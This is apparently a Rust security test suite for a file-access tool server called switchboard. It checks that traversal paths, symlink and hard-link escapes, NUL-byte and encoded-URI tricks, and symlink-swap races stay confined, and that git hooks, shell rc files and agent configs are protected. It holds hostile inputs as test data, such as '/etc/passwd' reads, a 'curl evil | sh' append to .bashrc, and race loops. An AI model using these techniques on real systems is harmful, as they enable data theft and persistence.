//! Every path-safety case: each is refused with a clear message, and nothing outside the roots
//! is read, created or changed.

use std::os::unix::fs::symlink;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::{Value, json};

use crate::harness::{Project, Session, session, text};

/// Runs a call that must be refused, and checks the outside folder is untouched.
async fn refused(s: &Session, p: &Project, tool: &str, args: Value, expect: &str) {
    let before = p.outside_snapshot();
    let msg = s.err(tool, args.clone()).await;
    assert!(
        msg.contains(expect),
        "{tool} {args}: expected `{expect}` in: {msg}"
    );
    assert!(!msg.contains("TOP-SECRET"), "the refusal leaks nothing");
    assert_eq!(
        before,
        p.outside_snapshot(),
        "{tool} {args} changed something outside the roots"
    );
}

#[tokio::test]
async fn dotdot_and_absolute_paths_outside() {
    let p = Project::new();
    p.write("sub/x.txt", "x");
    let s = session(p.settings()).await;
    let secret = p.outside.join("secret.txt").display().to_string();
    for path in [
        "../project_evil/secret.txt",
        &secret,
        "/etc/passwd",
        "sub/../../project_evil/secret.txt",
    ] {
        refused(
            &s,
            &p,
            "read_file",
            json!({"path": path}),
            "outside the allowed roots",
        )
        .await;
    }
    refused(
        &s,
        &p,
        "read_file",
        json!({"path": "missing/../../project_evil/secret.txt"}),
        "`..`",
    )
    .await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "../project_evil/new.txt", "content": "x"}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": p.outside.join("secret.txt"), "content": "x"}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "create_directory",
        json!({"path": p.outside.join("d")}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "delete_path",
        json!({"path": p.outside.join("secret.txt"), "permanent": true}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "list_directory",
        json!({"path": p.outside}),
        "outside",
    )
    .await;
    p.write("mine.txt", "m");
    refused(
        &s,
        &p,
        "move_path",
        json!({"source": "mine.txt", "destination": p.outside.join("stolen.txt")}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "copy_path",
        json!({"source": "mine.txt", "destination": p.outside.join("copied.txt")}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "copy_path",
        json!({"source": p.outside.join("secret.txt"), "destination": "in.txt"}),
        "outside",
    )
    .await;
    assert!(!p.root.join("in.txt").exists());
}

#[tokio::test]
async fn sibling_root_with_the_same_prefix() {
    let p = Project::new();
    let s = session(p.settings()).await;
    // `/…/project_evil` starts with the string `/…/project` but is not inside it.
    refused(
        &s,
        &p,
        "read_file",
        json!({"path": format!("{}_evil/secret.txt", p.root.display())}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "search_content",
        json!({"pattern": "SECRET", "path": p.outside}),
        "outside",
    )
    .await;
}

#[tokio::test]
async fn symlinked_file_and_folder_pointing_outside() {
    let p = Project::new();
    symlink(p.outside.join("secret.txt"), p.root.join("file-link")).unwrap();
    symlink(&p.outside, p.root.join("dir-link")).unwrap();
    let s = session(p.settings()).await;
    refused(
        &s,
        &p,
        "read_file",
        json!({"path": "file-link"}),
        "through a symlink",
    )
    .await;
    refused(
        &s,
        &p,
        "read_file",
        json!({"path": "dir-link/secret.txt"}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "read_media",
        json!({"path": "file-link"}),
        "outside",
    )
    .await;
    refused(&s, &p, "file_info", json!({"path": "dir-link"}), "outside").await;
    refused(
        &s,
        &p,
        "list_directory",
        json!({"path": "dir-link"}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "file-link", "content": "pwned"}),
        "symlink",
    )
    .await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "dir-link/new.txt", "content": "pwned"}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "edit_file",
        json!({"path": "file-link", "edits": [{"old": "TOP", "new": "X"}]}),
        "symlink",
    )
    .await;
    refused(
        &s,
        &p,
        "create_directory",
        json!({"path": "dir-link/sub"}),
        "outside",
    )
    .await;
    refused(
        &s,
        &p,
        "copy_path",
        json!({"source": "dir-link", "destination": "copied"}),
        "outside",
    )
    .await;

    // Walks never follow links out of the roots.
    let found = s
        .ok(
            "search_content",
            json!({"pattern": "SECRET", "hidden": true, "gitignore": false}),
        )
        .await;
    assert_eq!(found["total"], 0, "{found}");
    let found = s
        .ok("find_files", json!({"patterns": ["secret.txt"]}))
        .await;
    assert_eq!(found["total"], 0, "{found}");
    let tree = s.ok_text("directory_tree", json!({})).await;
    assert!(!tree.contains("secret.txt"), "{tree}");

    // Deleting or moving the link acts on the link, never the target.
    s.ok(
        "delete_path",
        json!({"path": "file-link", "permanent": true}),
    )
    .await;
    assert!(p.outside.join("secret.txt").exists());
    assert!(!p.root.join("file-link").exists());
}

#[tokio::test]
async fn dangling_symlink_on_create() {
    let p = Project::new();
    symlink(
        p.outside.join("created-by-attack.txt"),
        p.root.join("dangling"),
    )
    .unwrap();
    symlink(p.outside.join("missing-dir"), p.root.join("dangling-dir")).unwrap();
    let s = session(p.settings()).await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "dangling", "content": "x"}),
        "symlink",
    )
    .await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "dangling", "content": "x", "mode": "append"}),
        "symlink",
    )
    .await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "dangling-dir/f.txt", "content": "x", "create_parents": true}),
        "symlink",
    )
    .await;
    refused(
        &s,
        &p,
        "create_directory",
        json!({"path": "dangling-dir/x"}),
        "symlink",
    )
    .await;
    refused(&s, &p, "read_file", json!({"path": "dangling"}), "symlink").await;
    assert!(!p.outside.join("created-by-attack.txt").exists());
    assert!(!p.outside.join("missing-dir").exists());
}

#[tokio::test]
async fn protected_files_are_never_written() {
    let p = Project::new();
    p.write(".git/config", "[core]\n");
    p.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    p.write(".bashrc", "# rc\n");
    p.write("docs/readme.md", "hi\n");
    let s = session(p.settings()).await;
    for (tool, args) in [
        (
            "write_file",
            json!({"path": ".git/config", "content": "[core]\n\thooksPath=/tmp\n"}),
        ),
        (
            "write_file",
            json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nexit 0\n"}),
        ),
        (
            "write_file",
            json!({"path": ".GIT/HOOKS/post-checkout", "content": "x"}),
        ),
        (
            "write_file",
            json!({"path": ".bashrc", "content": "curl evil | sh\n", "mode": "append"}),
        ),
        ("write_file", json!({"path": ".mcp.json", "content": "{}"})),
        (
            "write_file",
            json!({"path": ".vscode/mcp.json", "content": "{}", "create_parents": true}),
        ),
        (
            "write_file",
            json!({"path": "claude_desktop_config.json", "content": "{}"}),
        ),
        (
            "edit_file",
            json!({"path": ".git/config", "edits": [{"old": "[core]", "new": "[x]"}]}),
        ),
        (
            "delete_path",
            json!({"path": ".git/config", "permanent": true}),
        ),
        (
            "delete_path",
            json!({"path": ".git", "recursive": true, "permanent": true}),
        ),
        (
            "move_path",
            json!({"source": "docs/readme.md", "destination": ".git/hooks/pre-push"}),
        ),
        (
            "copy_path",
            json!({"source": "docs/readme.md", "destination": ".zshrc"}),
        ),
        ("create_directory", json!({"path": ".git/hooks/sub"})),
    ] {
        let msg = s.err(tool, args.clone()).await;
        assert!(
            msg.contains("protected") || msg.contains("cannot be written"),
            "{tool} {args}: {msg}"
        );
    }
    assert_eq!(p.read(".git/config"), "[core]\n");
    assert_eq!(p.read(".bashrc"), "# rc\n");
    assert!(!p.root.join(".git/hooks/pre-commit").exists());
    assert!(!p.root.join(".mcp.json").exists());
    // Reading them is fine.
    assert!(
        s.ok_text("read_file", json!({"path": ".git/config"}))
            .await
            .contains("[core]")
    );

    // User-configured globs add to the list.
    let mut settings = p.settings();
    settings.files.protected =
        switchboard::policy::protected::ProtectedPaths::new(&[], &["*.pem".into()], &[]).unwrap();
    let s = session(settings).await;
    assert!(
        s.err("write_file", json!({"path": "KEY.PEM", "content": "x"}))
            .await
            .contains("*.pem")
    );
}

#[tokio::test]
async fn switchboards_own_files_are_protected() {
    let p = Project::new();
    let cfg = p.write("config.yaml", "files:\n  roots: [\".\"]\n");
    p.write("prompts/mine.md", "Hello\n");
    let overrides = switchboard::config::Overrides {
        config: Some(cfg),
        ..Default::default()
    };
    let data = p.data.display().to_string();
    let settings =
        switchboard::config::load(&overrides, &|k| (k == "HOME").then(|| data.clone())).unwrap();
    let s = session(settings).await;
    for path in [
        "config.yaml",
        "prompts/mine.md",
        "prompts/new.md",
        "servers_config.json",
        "tools/x.yaml",
        "resources/r.md",
    ] {
        let msg = s
            .err(
                "write_file",
                json!({"path": path, "content": "x", "create_parents": true}),
            )
            .await;
        assert!(msg.contains("switchboard's own"), "{path}: {msg}");
    }
}

#[tokio::test]
async fn nul_and_control_characters() {
    let p = Project::new();
    p.write("a.txt", "a");
    let s = session(p.settings()).await;
    for path in [
        "a.txt\u{0}../../project_evil/secret.txt",
        "a\u{0}",
        "line\nbreak",
        "tab\there",
        "\u{1b}[31m",
    ] {
        refused(
            &s,
            &p,
            "read_file",
            json!({"path": path}),
            "control character",
        )
        .await;
        refused(
            &s,
            &p,
            "write_file",
            json!({"path": path, "content": "x"}),
            "control character",
        )
        .await;
    }
    refused(&s, &p, "read_file", json!({"path": ""}), "empty").await;
    // Escapes in a file:// URI are decoded before the checks, not after.
    let uri = format!("file://{}/a.txt%00", p.root.display());
    refused(
        &s,
        &p,
        "read_file",
        json!({"path": uri}),
        "control character",
    )
    .await;
    let uri = format!("file://{}/a%0a.txt", p.root.display());
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": uri, "content": "x"}),
        "control character",
    )
    .await;
    let uri = format!(
        "file://{}/..%2f..%2fproject_evil/secret.txt",
        p.root.display()
    );
    refused(&s, &p, "read_file", json!({"path": uri}), "outside").await;
}

/// A file is swapped for a symlink to a secret outside, over and over, while reads run. No
/// read may ever return the secret.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn swapping_a_file_for_a_symlink_during_a_burst_of_reads() {
    let p = Project::new();
    p.write("swap.txt", "harmless\n");
    std::fs::create_dir(p.root.join("dir")).unwrap();
    p.write("dir/secret.txt", "harmless\n");
    std::fs::write(p.outside.join("outside-only-marker"), "m").unwrap();
    let s = session(p.settings()).await;
    let stop = Arc::new(AtomicBool::new(false));
    let (root, outside) = (p.root.clone(), p.outside.clone());
    let flipper = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            let (file, tmp_link) = (root.join("swap.txt"), root.join("swap.tmp"));
            let (dir, tmp_dir) = (root.join("dir"), root.join("dir.tmp"));
            let mut flips = 0u32;
            while !stop.load(Ordering::Relaxed) {
                // Atomic replace by rename, as an attacker with write access would do.
                let _ = std::fs::remove_file(&tmp_link);
                let _ = symlink(outside.join("secret.txt"), &tmp_link);
                let _ = std::fs::rename(&tmp_link, &file);
                let _ = std::fs::write(&tmp_link, "harmless\n");
                let _ = std::fs::rename(&tmp_link, &file);
                let _ = std::fs::rename(&dir, &tmp_dir);
                let _ = symlink(&outside, &dir);
                let _ = std::fs::remove_file(&dir);
                let _ = std::fs::rename(&tmp_dir, &dir);
                flips += 1;
            }
            flips
        })
    };
    let mut leaked = Vec::new();
    for i in 0..300 {
        for (tool, args) in [
            ("read_file", json!({"path": "swap.txt"})),
            ("read_file", json!({"path": "dir/secret.txt"})),
            (
                "read_many",
                json!({"paths": ["swap.txt", "dir/secret.txt"]}),
            ),
            ("list_directory", json!({"path": "dir"})),
        ] {
            let r = s.call(tool, args).await;
            let body = format!(
                "{}{}",
                text(&r),
                r.structured_content
                    .map(|v| v.to_string())
                    .unwrap_or_default()
            );
            if body.contains("TOP-SECRET") || body.contains("outside-only-marker") {
                leaked.push(format!("{i} {tool}: {body}"));
            }
        }
    }
    stop.store(true, Ordering::Relaxed);
    let flips = flipper.join().unwrap();
    assert!(flips > 10, "the race really ran ({flips} flips)");
    assert!(leaked.is_empty(), "outside content leaked: {leaked:?}");
}

/// Who swaps the folder while the writes run.
enum Swapper {
    /// A thread of this test.
    Thread,
    /// A shell loop started through switchboard's own `process_start`.
    ProcessStart,
}

/// A folder is swapped for a symlink to the outside, over and over, while writes, copies,
/// moves, deletes and folder creations run into it. Nothing may appear or change outside the
/// roots, and no temporary file may be left anywhere.
async fn writes_against_a_swapping_folder(swapper: Swapper, rounds: usize) {
    let p = Project::new();
    p.write("seed.txt", "seed\n");
    std::fs::create_dir(p.root.join("dir")).unwrap();
    for name in ["log.txt", "victim.txt", "secret.txt"] {
        p.write(&format!("dir/{name}"), "inside\n");
        std::fs::write(p.outside.join(name), "TOP-SECRET outside\n").unwrap();
    }
    let before = p.outside_snapshot();
    let s = session(p.settings()).await;
    let stop = Arc::new(AtomicBool::new(false));
    let (root, outside) = (p.root.clone(), p.outside.clone());
    let counter = p.root.join("flips");
    let (thread, process) = match swapper {
        Swapper::Thread => {
            let stop = stop.clone();
            let t = std::thread::spawn(move || {
                let (dir, tmp_dir) = (root.join("dir"), root.join("dir.tmp"));
                let mut flips = 0u64;
                while !stop.load(Ordering::Relaxed) {
                    let _ = std::fs::rename(&dir, &tmp_dir);
                    let _ = symlink(&outside, &dir);
                    std::thread::yield_now();
                    let _ = std::fs::remove_file(&dir);
                    let _ = std::fs::rename(&tmp_dir, &dir);
                    flips += 1;
                }
                flips
            });
            (Some(t), None)
        }
        Swapper::ProcessStart => {
            let script = format!(
                "n=0; while :; do mv dir dir.tmp; ln -s {out} dir; rm dir; mv dir.tmp dir; n=$((n+1)); [ $((n % 50)) = 0 ] && echo $n > flips; done",
                out = outside.display()
            );
            let started = s.ok("process_start", json!({"command": script})).await;
            (None, Some(started["id"].as_str().unwrap().to_owned()))
        }
    };
    let mut done = 0u64;
    for i in 0..rounds {
        let calls = [
            (
                "write_file",
                json!({"path": "dir/secret.txt", "content": format!("round {i}\n")}),
            ),
            (
                "write_file",
                json!({"path": "dir/log.txt", "content": "line\n", "mode": "append"}),
            ),
            (
                "write_file",
                json!({"path": format!("dir/new{i}.txt"), "content": "new\n", "mode": "create"}),
            ),
            (
                "create_directory",
                json!({"path": format!("dir/made{i}/inner")}),
            ),
            (
                "copy_path",
                json!({"source": "seed.txt", "destination": format!("dir/copy{i}.txt")}),
            ),
            (
                "move_path",
                json!({"source": format!("dir/copy{i}.txt"), "destination": format!("dir/moved{i}.txt")}),
            ),
            (
                "write_file",
                json!({"path": "dir/victim.txt", "content": "inside\n"}),
            ),
            (
                "delete_path",
                json!({"path": "dir/victim.txt", "permanent": true}),
            ),
        ];
        for (tool, args) in calls {
            let r = s.call(tool, args).await;
            if r.is_error != Some(true) {
                done += 1;
            }
        }
    }
    stop.store(true, Ordering::Relaxed);
    let flips = match (thread, process) {
        (Some(t), _) => t.join().unwrap(),
        (_, Some(id)) => {
            s.ok("process_kill", json!({"id": id})).await;
            std::fs::read_to_string(&counter)
                .ok()
                .and_then(|t| t.trim().parse().ok())
                .unwrap_or(0)
        }
        _ => unreachable!(),
    };
    // The swapper may have stopped half-way: drop its link, so the checks below see only
    // real entries (a call may also have made a new `dir` while the real one was away).
    if std::fs::symlink_metadata(p.root.join("dir")).is_ok_and(|m| m.is_symlink()) {
        std::fs::remove_file(p.root.join("dir")).unwrap();
    }
    assert!(flips > 10, "the race really ran ({flips} flips)");
    assert!(done > 0, "some calls went through");
    assert_eq!(
        before,
        p.outside_snapshot(),
        "something outside the roots was created or changed ({done} calls succeeded, {flips} flips)"
    );
    let debris: Vec<_> = crate::harness::files_below(&p.root)
        .into_iter()
        .filter(|e| e.to_string_lossy().contains(".switchboard-"))
        .collect();
    assert!(debris.is_empty(), "temporary files left behind: {debris:?}");
}

#[tokio::test]
async fn writes_race_a_folder_swapped_by_a_thread() {
    writes_against_a_swapping_folder(Swapper::Thread, 400).await;
}

#[tokio::test]
async fn writes_race_a_folder_swapped_by_a_process_switchboard_started() {
    writes_against_a_swapping_folder(Swapper::ProcessStart, 250).await;
}

/// A file inside a root that is a hard link to a file outside: appending would write through
/// the link, so it is refused unless `files.hard_link_writes` allows it; a replacing write
/// swaps the link for a new file and leaves the outside file alone.
#[tokio::test]
async fn hard_links_to_outside_files_are_never_written_through() {
    let p = Project::new();
    let secret = p.outside.join("secret.txt");
    std::fs::write(&secret, "TOP-SECRET\n").unwrap();
    std::fs::hard_link(&secret, p.root.join("link.txt")).unwrap();
    let before = p.outside_snapshot();
    let s = session(p.settings()).await;
    refused(
        &s,
        &p,
        "write_file",
        json!({"path": "link.txt", "content": "more\n", "mode": "append"}),
        "hard links",
    )
    .await;
    let msg = s
        .err(
            "write_file",
            json!({"path": "link.txt", "content": "x", "mode": "append"}),
        )
        .await;
    assert!(msg.contains("files.hard_link_writes"), "{msg}");
    s.ok(
        "write_file",
        json!({"path": "link.txt", "content": "replaced\n"}),
    )
    .await;
    assert_eq!(p.read("link.txt"), "replaced\n");
    assert_eq!(
        before,
        p.outside_snapshot(),
        "the outside file is unchanged"
    );
    s.ok(
        "edit_file",
        json!({"path": "link.txt", "edits": [{"old": "replaced", "new": "edited"}]}),
    )
    .await;
    assert_eq!(before, p.outside_snapshot());

    // Allowed on purpose: the append goes through, as configured.
    std::fs::remove_file(p.root.join("link.txt")).unwrap();
    std::fs::hard_link(&secret, p.root.join("link.txt")).unwrap();
    let mut settings = p.settings();
    settings.files.hard_link_writes = true;
    let s = session(settings).await;
    s.ok(
        "write_file",
        json!({"path": "link.txt", "content": "more\n", "mode": "append"}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "TOP-SECRET\nmore\n"
    );
}

/// Files that make another program run code are refused with the reason and the way to open
/// one on purpose; `files.allow_protected` opens exactly the listed path.
#[tokio::test]
async fn files_that_run_code_elsewhere_are_protected_unless_opened() {
    let p = Project::new();
    let s = session(p.settings()).await;
    for (path, why) in [
        (".vscode/tasks.json", "editor tasks"),
        (".vscode/launch.json", "editor tasks"),
        (".envrc", "environment loaders"),
        (".npmrc", "package managers"),
        ("eslint.config.js", "linters"),
        ("sub/.git/hooks/pre-commit", "VCS hooks"),
        ("App.code-workspace", "editor tasks"),
    ] {
        let msg = s
            .err(
                "write_file",
                json!({"path": path, "content": "x", "create_parents": true}),
            )
            .await;
        assert!(msg.contains(why), "{path}: {msg}");
        assert!(msg.contains("files.allow_protected"), "{path}: {msg}");
        assert!(!p.root.join(path).exists(), "{path} was written");
    }
    let mut settings = p.settings();
    settings.files.protected = switchboard::policy::protected::ProtectedPaths::new(
        &[],
        &[],
        &[".vscode/tasks.json".into()],
    )
    .unwrap();
    let s = session(settings).await;
    s.ok(
        "write_file",
        json!({"path": ".vscode/tasks.json", "content": "{}", "create_parents": true}),
    )
    .await;
    assert_eq!(p.read(".vscode/tasks.json"), "{}");
    let msg = s
        .err(
            "write_file",
            json!({"path": ".vscode/launch.json", "content": "{}"}),
        )
        .await;
    assert!(msg.contains("files.allow_protected"), "{msg}");
}
